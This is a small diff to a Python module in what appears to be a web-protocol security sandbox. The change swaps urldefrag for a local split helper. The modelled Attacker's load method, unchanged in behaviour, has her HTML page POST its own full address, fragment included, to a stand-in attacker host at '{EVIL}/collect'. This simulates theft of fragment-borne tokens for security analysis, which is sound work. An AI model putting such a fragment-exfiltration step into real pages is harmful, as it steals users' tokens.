@@ -6,7 +6,6 @@ What she may use is decided elsewhere: by what the trace shows that she has lear
 from __future__ import annotations
 
 from dataclasses import dataclass, field, replace
-from urllib.parse import urldefrag
 
 from sandbox.cast import EVIL
 from sandbox.certificates import bound_certificate, certificate, certificate_thumbprint
@@ -15,7 +14,7 @@ from sandbox.parties.browser import Action, Browser, Fetch
 from sandbox.parties.pages import Form
 from sandbox.proofs import prove
 from sandbox.tokens import Key, NotAJwt, decode, key_for
-from sandbox.wire import Pairs, Request, Response, json_request
+from sandbox.wire import Pairs, Request, Response, json_request, split
 
 
 @dataclass
@@ -52,7 +51,7 @@ class Attacker:
     def load(self, browser: Browser, url: str) -> Action | None:
         """A page of hers reports what its server cannot see: the fragment of its own address."""
         html = browser.page is not None and (browser.page.header("content-type") or "").startswith("text/html")
-        return Fetch(json_request("POST", f"{EVIL}/collect", {"address": url}), "reported") if html and urldefrag(url).fragment else None
+        return Fetch(json_request("POST", f"{EVIL}/collect", {"address": url}), "reported") if html and split(url).fragment else None
 
     def submit(self, browser: Browser, form: Form, fields: Pairs) -> Action | None:
         return None
